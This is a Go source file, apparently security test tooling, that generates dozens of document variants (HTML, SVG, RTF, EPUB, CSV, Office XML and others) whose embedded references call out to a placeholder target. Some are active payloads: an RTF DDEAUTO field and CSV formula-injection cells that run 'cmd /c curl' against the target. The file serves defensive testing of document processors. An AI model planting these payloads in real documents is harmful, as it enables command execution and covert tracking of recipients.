package hostile

import (
	"encoding/hex"
	"strings"

	"xietong.dev/test/documents/parts"
)

// written is a document that is a text; § stands for the target.
func written(kind, extension string, image bool, text string) reference {
	return reference{kind, extension, image, func(target string) []byte {
		return []byte(strings.ReplaceAll(text, "§", target))
	}}
}

func (m *maker) pageReferences() {
	html := func(kind string, image bool, head, body string) reference {
		return written(kind, "html", image, `<!DOCTYPE html><html><head><meta charset="utf-8"><title>附件</title>`+head+`</head><body><p>请查收附件。</p>`+body+`<p>完</p></body></html>`)
	}
	all := []reference{
		html("img", true, "", `<img src="§" width="200" height="200">`), html("img by base", false, `<base href="§/">`, `<img src="a.png">`), html("srcset", false, "", `<picture><source srcset="§"><img srcset="§ 2x" src="§"></picture>`),
		html("style sheet", false, `<link rel="stylesheet" type="text/css" href="§.css">`, ""), html("import of a style", false, `<style>@import url("§.css");</style>`, ""),
		html("background of a style", true, "", `<div style="background-image:url('§');width:200px;height:200px">a</div>`), html("background of the body", true, `<style>body{background:url('§')}</style>`, ""),
		html("font", false, `<style>@font-face{font-family:F;src:url('§')}p{font-family:F}</style>`, ""), html("iframe", false, "", `<iframe src="§" width="200" height="200"></iframe>`),
		html("object", false, "", `<object data="§" type="image/png" width="200" height="200"></object>`), html("embed", false, "", `<embed src="§" width="200" height="200">`), html("applet", false, "", `<applet code="a.class" codebase="§"></applet>`),
		html("video", false, "", `<video src="§" poster="§" autoplay></video>`), html("audio", false, "", `<audio src="§" autoplay></audio>`), html("sound", false, `<bgsound src="§">`, ""),
		html("script", false, `<script src="§"></script>`, ""), html("script that fetches", false, "", `<script>fetch("§");new Image().src="§";location="§"</script>`), html("refresh", false, `<meta http-equiv="refresh" content="0;url=§">`, ""),
		html("refresh header", false, `<meta http-equiv="Refresh" content="0; URL='§'"><link rel="icon" href="§"><link rel="prefetch" href="§"><link rel="preload" as="image" href="§">`, ""),
		html("button picture", true, "", `<form action="§"><input type="image" src="§" width="200" height="200"></form>`), html("table background", true, "", `<table background="§" width="200" height="200"><tr><td background="§">a</td></tr></table>`),
		html("svg", false, "", `<svg xmlns="http://www.w3.org/2000/svg" width="200" height="200"><image href="§" xlink:href="§" width="200" height="200"/><use href="§#a"/></svg>`),
		html("bullet", false, "", `<ul style="list-style-image:url('§')"><li>项目</li></ul>`), html("sheet of cells", false, `<meta name="ProgId" content="Excel.Sheet">`, `<table><tr><td x:fmla="=WEBSERVICE('§')">1</td></tr></table>`),
		html("conditional comment", false, `<!--[if mso]><xml><o:OfficeDocumentSettings/></xml><v:background><v:fill src="§"/></v:background><![endif]-->`, ""),
		written("frames", "html", false, `<html><frameset cols="50%,50%"><frame src="§"><frame src="§"></frameset></html>`),
		written("picture", "md", true, "# 附件\n\n![图](§)\n"), written("picture by name", "md", true, "# 附件\n\n![图][a]\n\n[a]: § \"标题\"\n"), written("picture in html", "md", true, "# 附件\n\n<img src=\"§\" width=200>\n"),
		written("frame in html", "md", false, "# 附件\n\n<iframe src=\"§\"></iframe>\n<link rel=stylesheet href=\"§.css\">\n<script src=\"§\"></script>\n"), written("inclusion", "md", false, "# 附件\n\n{{< include § >}}\n\n!include §\n\n.. include:: §\n"), written("link", "md", false, "[点击](§) <§> §\n"),
		written("picture", "svg", true, string(svgImage("§"))), written("style sheet", "svg", false, `<?xml-stylesheet href="§.css"?><svg xmlns="http://www.w3.org/2000/svg"><style>@import url("§.css");</style></svg>`),
		written("foreign object", "svg", false, `<svg xmlns="http://www.w3.org/2000/svg" width="200" height="200"><foreignObject width="200" height="200"><iframe xmlns="http://www.w3.org/1999/xhtml" src="§"/></foreignObject></svg>`),
		written("filter picture", "svg", false, `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="200" height="200"><filter id="f"><feImage xlink:href="§"/></filter><rect width="200" height="200" filter="url(#f)"/></svg>`),
		written("script", "svg", false, `<svg xmlns="http://www.w3.org/2000/svg" onload="fetch('§')"><script href="§"/></svg>`), written("use", "svg", false, `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"><use xlink:href="§#a"/></svg>`),
	}
	m.references(all)
}

// rich is an RTF document around what leads elsewhere; # stands for the target
// in hexadecimal.
func rich(kind string, image bool, text string) reference {
	return reference{kind, "rtf", image, func(target string) []byte {
		text := strings.ReplaceAll(text, "#", hex.EncodeToString([]byte(target)))
		target = strings.ReplaceAll(target, `\`, `\\\\`)
		return []byte(`{\rtf1\ansi\deff0{\fonttbl{\f0 Arial;}}` + strings.ReplaceAll(text, "§", target) + ` Attached.\par}`)
	}}
}

// book is an epub whose chapter leads elsewhere.
func book(kind string, image bool, more string) reference {
	return reference{kind, "epub", image, func(target string) []byte {
		return parts.Zip(chapters(strings.ReplaceAll(more, "§", parts.Escape(target)))...)
	}}
}

// otherWays are rich text, tables of plain text, books, and lists of addresses.
func (m *maker) otherWays() {
	object := func(class string) string {
		return `{\object\objautlink\objupdate\rsltpict{\*\objclass ` + class + `}{\*\objdata 0105000001000000#}}`
	}
	m.references([]reference{
		rich("INCLUDEPICTURE", true, `{\field\flddirty{\*\fldinst{INCLUDEPICTURE "§" \\d \\* MERGEFORMAT}}{\fldrslt }}`), rich("INCLUDETEXT", false, `{\field\flddirty{\*\fldinst{INCLUDETEXT "§"}}{\fldrslt }}`),
		rich("template", false, `{\*\template §}`), rich("DDEAUTO", false, `{\field{\*\fldinst{DDEAUTO cmd "/c curl §" a}}{\fldrslt }}`), rich("files", false, `{\*\filetbl{\file\fid0\fnetwork §;}}{\*\nextfile §}`),
		rich("linked object", false, object("Word.Document.8")), rich("equation object", false, strings.ReplaceAll(object("Equation.3"), "objautlink", "objemb")), rich("link object of an address", false, object("htmlfile")),
		rich("subdocument", false, `{\subdocument0}{\*\filetbl{\file\fid0 §;}}`), rich("background", false, `{\*\background{\shp{\*\shpinst{\sp{\sn pibName}{\sv §}}{\sp{\sn pibFlags}{\sv 10}}}}}`), rich("mail merge", false, `{\*\mailmerge{\*\mmconnectstr §}{\*\mmdatasource §}}`),
		rich("style of XML", false, `{\*\xmlnstbl{\xmlns1 §;}}{\*\wgrffmtfilter §}`), rich("picture of an address", true, `{\field{\*\fldinst{IMPORT "§"}}{\fldrslt }}{\*\htmltag <img src="§">}`),
		written("WEBSERVICE", "csv", false, "甲,=WEBSERVICE(\"§\")\n"), written("HYPERLINK", "csv", false, "甲,\"=HYPERLINK(\"\"§\"\",\"\"点击\"\")\"\n"), written("DDE by formula", "csv", false, "甲,\"=DDE(\"\"soffice\"\",\"\"§\"\",\"\"a1\"\")\"\n"),
		written("program", "csv", false, "甲,=cmd|'/c curl §'!A0,+cmd|'/c curl §'!A0,@SUM(1)*cmd|'/c curl §'!A0\n"), written("cell of another book", "csv", false, "甲,='§'#$Sheet1.A1,=IMPORTXML(\"§\")\n"),
		book("picture", true, `<img src="§" alt="a"/>`), book("style sheet", false, `<style>@import url("§.css");</style><link rel="stylesheet" href="§.css"/>`), book("frame", false, `<iframe src="§"></iframe>`), book("object", false, `<object data="§"></object><script src="§"></script>`), book("svg", false, `<svg xmlns="http://www.w3.org/2000/svg"><image href="§"/></svg>`),
		{"chapter that lies elsewhere", "epub", false, func(target string) []byte {
			entries := chapters("")
			entries[2].Data = []byte(strings.Replace(string(entries[2].Data), `href="c.xhtml"`, `href="`+parts.Escape(target)+`"`, 1))
			return parts.Zip(entries...)
		}},
		{"package that lies elsewhere", "epub", false, func(target string) []byte {
			entries := chapters("")
			entries[1].Data = []byte(strings.Replace(string(entries[1].Data), "OEBPS/book.opf", parts.Escape(target), 1))
			return parts.Zip(entries...)
		}},
		written("shortcut", "url", false, "[InternetShortcut]\r\nURL=§\r\nIconFile=§\r\n"), written("web archive", "mht", false, "MIME-Version: 1.0\r\nContent-Type: text/html\r\nContent-Location: §\r\n\r\n<img src=\"§\"><link rel=stylesheet href=\"§.css\">\r\n"),
		written("web query", "iqy", false, "WEB\r\n1\r\n§\r\n"), written("symbolic link", "slk", false, "ID;P\r\nC;X1;Y1;K0;EWEBSERVICE(\"§\")\r\nE\r\n"), written("data source", "odc", false, `<html xmlns:o="urn:schemas-microsoft-com:office:office"><xml><odc:Connection xmlns:odc="urn:schemas-microsoft-com:office:odc"><odc:ConnectionString>§</odc:ConnectionString></odc:Connection></xml></html>`),
		written("play list", "m3u", false, "#EXTM3U\n§\n"), written("office 2003 text", "xml", true, `<?xml version="1.0"?><?mso-application progid="Word.Document"?><w:wordDocument xmlns:w="http://schemas.microsoft.com/office/word/2003/wordml" xmlns:v="urn:schemas-microsoft-com:vml"><w:body><w:p><w:r><w:pict><v:shape style="width:100pt;height:100pt"><v:imagedata src="§"/></v:shape></w:pict></w:r></w:p></w:body></w:wordDocument>`),
		written("office 2003 sheet", "xml", false, `<?xml version="1.0"?><?mso-application progid="Excel.Sheet"?><Workbook xmlns="urn:schemas-microsoft-com:office:spreadsheet" xmlns:ss="urn:schemas-microsoft-com:office:spreadsheet"><Worksheet ss:Name="a"><Table><Row><Cell ss:HRef="§" ss:Formula="=WEBSERVICE(&quot;§&quot;)"/></Row></Table></Worksheet></Workbook>`),
	})
}
